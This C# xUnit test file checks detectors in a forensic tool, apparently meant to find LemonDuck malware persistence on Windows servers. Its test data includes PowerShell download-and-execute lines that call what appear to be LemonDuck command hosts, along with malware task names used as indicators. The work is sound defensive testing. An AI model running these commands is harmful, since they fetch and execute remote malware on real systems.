using Afterpatch.Analysis.Detectors.Defence;
using Afterpatch.Analysis.Detectors.LemonDuck;
using Afterpatch.Analysis.Detectors.Persistence;
using Afterpatch.Core;
using Xunit;
using static Afterpatch.Analysis.Tests.Detectors.Persistence.Facts;

namespace Afterpatch.Analysis.Tests.Detectors.Persistence;

/// <summary>Items of the catalogue of threats that whole generated servers hold too: each by itself, and what resembles it.</summary>
public sealed class CatalogueTests
{
    [Theory]
    [InlineData(@"\Rtsa", "", true)]
    [InlineData(@"\Rtsa2", @"-w hidden -c IEX((New-Object Net.WebClient).DownloadString('http://t.amynx.com/7p.php?0.8*ipc*u*c'))", true)]
    [InlineData(@"\bluetea", "bluetea", true)]
    [InlineData(@"\Rtsa3", "", false)]
    [InlineData(@"\Contoso\RtsaReports", @"-File D:\Scripts\Rtsa.ps1", false)]
    public void Lemon_ducks_older_tasks_are_told_by_name(string path, string arguments, bool isTold)
    {
        var findings = Run(new ScheduledTaskDetector(), Task(path, arguments is "" ? "" : arguments == "bluetea" ? "bluetea" : "powershell.exe", arguments == "bluetea" ? "" : arguments));
        Assert.Equal(isTold ? ["lemonduck.task"] : [], findings.Select(finding => finding.Detector));
    }

    [Fact]
    public void The_stage_that_loads_cobalt_strike_is_lemon_ducks_and_a_download_of_others_is_not()
    {
        LoggedEvent Block(string text) => Event("Microsoft-Windows-PowerShell/Operational", 4104, null, ("ScriptBlockText", text));
        var stage = Block("IEX(New-Object Net.WebClient).DownloadString('http://ps2.jusanrihua.com/ps'); $x='/ln/core.png?rds'");
        Assert.Equal("lemonduck.script", Assert.Single(Run(new LemonDuckDetector(KnowledgeBase.Embedded), stage)).Detector);
        Assert.Empty(Run(new LemonDuckDetector(KnowledgeBase.Embedded), Block("Invoke-WebRequest https://download.microsoft.com/x.msp -OutFile D:\\x.msp")));
    }

    [Fact]
    public void A_module_and_a_directory_that_only_the_history_has_were_there_and_are_removed()
    {
        var live = Item("iis-native-module", "UriCacheModule", "yes", ("image", @"%windir%\System32\inetsrv\cachuri.dll"), ("source", "live")) with { At = new EvidencePointer(@"C:\Windows\System32\inetsrv\config\applicationHost.config") };
        var module = Item("iis-native-module", "Cache2", "unknown", ("image", @"C:\ProgramData\x\cache.dll"), ("source", "history"));
        var directory = Item("virtual-directory", "Default Web Site/x", "unknown", ("physicalPath", @"C:\ProgramData\COM"), ("source", "history"));
        var honest = Item("virtual-directory", "Default Web Site/app", "unknown", ("physicalPath", @"D:\Apps\app"), ("source", "history"));
        var findings = Run(new IisDetector(), live, module, directory, honest);
        Assert.Equal([("persistence.iis-module", FindingState.Removed), ("persistence.virtual-directory", FindingState.Removed)], findings.Select(finding => (finding.Detector, finding.State)));
        Assert.All(Run(new IisDetector(), module), finding => Assert.Equal(FindingState.Unknown, finding.State));
    }

    [Theory]
    [InlineData("published", true)]
    [InlineData("own", false)]
    [InlineData("generated", false)]
    public void A_machine_key_that_the_world_knows_is_told(string keys, bool isTold) =>
        Assert.Equal(isTold ? ["config.machine-key"] : [], Run(new DefenceDetector(), Item("machine-key", "web.config", "unknown", ("keys", keys))).Select(finding => finding.Detector));

    [Theory]
    [InlineData("port-proxy", "*/65529", "1.1.1.1/53", "lemonduck.network")]
    [InlineData("port-proxy", "*/8080", "10.1.2.3/3389", "defence.port-proxy")]
    [InlineData("firewall-rule", "x", "v2.10|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|Name=deny445|", "lemonduck.network")]
    [InlineData("firewall-rule", "x", "v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=443|Name=Contoso Monitoring|", null)]
    [InlineData("persistent-route", "203.0.113.9,255.255.255.255,0.0.0.0,1", "", "defence.null-route")]
    [InlineData("persistent-route", "10.8.0.0,255.255.0.0,10.1.1.1,1", "", null)]
    public void Proxies_rules_and_routes_are_told_by_what_they_do(string kind, string name, string rule, string? detector) =>
        Assert.Equal(detector, Run(new DefenceDetector(), Item(kind, name, "unknown", ("rule", rule))).SingleOrDefault()?.Detector);

    [Theory]
    [InlineData("0", null)]
    [InlineData("1", "lemonduck.self-mitigation")]
    public void A_hole_is_closed_only_where_the_switch_is_on(string data, string? detector) =>
        Assert.Equal(detector, Run(new LemonDuckDetector(KnowledgeBase.Embedded),
            Item("setting", @"HKLM\SYSTEM\X\LanmanServer\Parameters\DisableCompression", "unknown", ("value", "DisableCompression"), ("data", data))).SingleOrDefault()?.Detector);
}
